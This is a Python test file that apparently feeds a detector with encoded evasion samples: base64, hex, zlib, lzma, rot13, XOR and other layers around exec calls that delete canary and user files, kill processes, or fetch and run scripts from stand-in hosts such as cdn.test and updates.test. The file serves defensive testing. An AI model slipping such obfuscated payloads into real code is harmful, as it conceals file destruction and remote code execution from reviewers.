"""Text under one or more layers of encoding."""

from __future__ import annotations

from tests.blue.evasions.evasion import Harm, technique

decoded = technique("python", "decoded layers")

EVASIONS = (
    decoded(
        "base64",
        Harm.DESTROYED,
        r"""
import base64

exec(base64.b64decode("aW1wb3J0IG9zCm9zLnJlbW92ZSgiL2V0Yy9yZWRibHVlLWNhbmFyeS5jb25mIikK"))
""",
    ),
    decoded(
        "base64-thrice",
        Harm.DESTROYED,
        r"""
import base64

blob = "WVZjeGQySXpTakJKUnpsNlR6STVla3h1U214aVZ6a3lXbE5uYVV3eWFIWmlWMVYyWWxkc2VWbFRPWFZpTTFKc1kzazFNR1ZJVVdsTFVUMDk="
for _ in range(3):
    blob = base64.b64decode(blob)
exec(blob)
""",
    ),
    decoded(
        "base85-zlib",
        Harm.DESTROYED,
        r"""
import base64
import zlib

exec(zlib.decompress(base64.b85decode(
    "c-qU%Eyyn_QOGam$}iR{O3lqLOVv=)Pc2E-FG@{G$|+6NO-{^9EUMH?&d*Cz(&PdFtuYYc")))
""",
    ),
    decoded(
        "gzip",
        Harm.DESTROYED,
        r"""
import base64
import gzip

exec(gzip.decompress(base64.b64decode(
    "H4sIAAAAAAACA8vMLcgvKlHIL+bKL9YrSs3NL0vVUNJPLUnWL0pNScopTdVNTsxLLKrUS87PS1PS5AIAWOONcjAAAAA=")))
""",
    ),
    decoded(
        "base32",
        Harm.DESTROYED,
        r"""
from base64 import b32decode as read_icon

exec(read_icon("NFWXA33SOQQG64YKN5ZS44TFNVXXMZJIEIXWK5DDF5ZGKZDCNR2WKLLDMFXGC4TZFZRW63TGEIUQU==="))
""",
    ),
    decoded(
        "hex",
        Harm.DESTROYED,
        r"""
import binascii

exec(binascii.unhexlify(
    "696D706F7274206F730A6F732E72656D6F766528222F6574632F726564626C75652D63616E6172792E636F6E6622290A"))
""",
    ),
    decoded(
        "lzma",
        Harm.DESTROYED,
        r"""
import base64
import lzma

exec(lzma.decompress(base64.b64decode(
    "/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAvaW1wb3J0IG9zCm9zLnJlbW92ZSgiL2V0Yy9yZWRibHVlLWNhbmFyeS5jb25m"
    "IikKAAVLB2K9faPiAAFIMIpA/z4ftvN9AQAAAAAEWVo=")))
""",
    ),
    decoded(
        "rot13",
        Harm.DESTROYED,
        r"""
import codecs

exec(codecs.decode('vzcbeg bf; bf.hayvax("/ine/yvo/pnanel/qngn.qo")', "rot_13"))
""",
    ),
    decoded(
        "rot13-in-base64",
        Harm.KILLED,
        r"""
import base64
import codecs

text = base64.b64decode("X192emNiZWdfXygiYmYiKS5mbGZncnooImN4dnl5IC1rIHBuYW5lbC1xbyIp").decode()
eval(codecs.decode(text, "rot13"))
""",
    ),
    decoded(
        "xor-in-base64",
        Harm.DESTROYED,
        r"""
import base64

sealed = base64.b64decode("Q0daRVheCkVZEUVZBFhPR0VcTwIIBUJFR08FR0NYSwVERV5PWQReUl4IAw==")
exec(bytes(b ^ 0x2A for b in sealed))
""",
    ),
    decoded(
        "xor-with-key",
        Harm.DESTROYED,
        r"""
import itertools

key = b"quite long key"
text = b"import os;os.remove('/home/mira/notes.txt')"
sealed = bytes(a ^ b for a, b in zip(text, itertools.cycle(key)))
exec(bytes(a ^ b for a, b in zip(sealed, itertools.cycle(key))))
""",
    ),
    decoded(
        "zlib-request",
        Harm.SENT,
        r"""
import base64
import zlib

exec(zlib.decompress(base64.b64decode(
    "eJwlzEEKgCAQQNGryKwSxHEZdRq1AQNrbBzp+gltP49/Xo1FzZBaz+SFnkFdTexm7MPPyo3uBYpq2xAz10pZWbxOta0hBAT3EyTN2Es8+AUHksDOWzwW"
    "az8AsyGu")))
""",
    ),
    decoded(
        "shell-line",
        Harm.RAN,
        r"""
import base64
import os

os.system(base64.b64decode(b"Y3VybCAtcyBodHRwOi8vY2RuLnRlc3Q6ODAwMC9zZXR1cC5zaCB8IHNo").decode())
""",
    ),
    decoded(
        "shell-decodes",
        Harm.RAN,
        r"""
import subprocess

subprocess.run("echo Y3VybCAtcyBodHRwOi8vY2RuLnRlc3Q6ODAwMC9zZXR1cC5zaCB8IHNo | base64 -d | sh", shell=True)
""",
    ),
    decoded(
        "uuencode",
        Harm.DESTROYED,
        r"""
import binascii
import os

eval(binascii.a2b_uu(b"A;W,N<F5M;W9E*\"(O:&]M92]M:7)A+VYO=&5S+G1X=\"(I\n"))
""",
    ),
    decoded(
        "quoted-printable",
        Harm.DESTROYED,
        r"""
import os
import quopri

eval(quopri.decodestring(b"=6F=73.=72=65move(\"/etc/redblue-canary.conf\")"))
""",
    ),
    decoded(
        "unicode-escape",
        Harm.DESTROYED,
        r"""
import codecs

exec(codecs.decode(r"\x69mport os\nos\x2eremove('/home\u002fmira/notes.txt')", "unicode_escape"))
""",
    ),
    decoded(
        "utf-16-as-letters",
        Harm.DESTROYED,
        r"""
import os

hidden = "os.remove('/etc/redblue-canary.conf')     ".encode().decode("utf-16-le")
eval(hidden.encode("utf-16-le"))
""",
    ),
    decoded(
        "from-fetched-base64",
        Harm.RAN,
        r"""
import base64
import os
import urllib.request

with urllib.request.urlopen("http://updates.test:8000/setup.b64") as answer:
    os.system(base64.b64decode(answer.read()).decode())
""",
    ),
    decoded(
        "from-fetched-hex",
        Harm.RAN,
        r"""
import subprocess

import requests

steps = bytes.fromhex(requests.get("http://updates.test:8000/setup.hex", timeout=5).text)
subprocess.Popen("bash", stdin=subprocess.PIPE).communicate(steps)
""",
        "python:requests",
    ),
    decoded(
        "from-fetched-reversed",
        Harm.RAN,
        r"""
import os
import urllib.request

text = urllib.request.urlopen("http://updates.test:8000/setup.rev").read().decode()
os.popen(text.strip()[::-1]).read()
""",
    ),
)
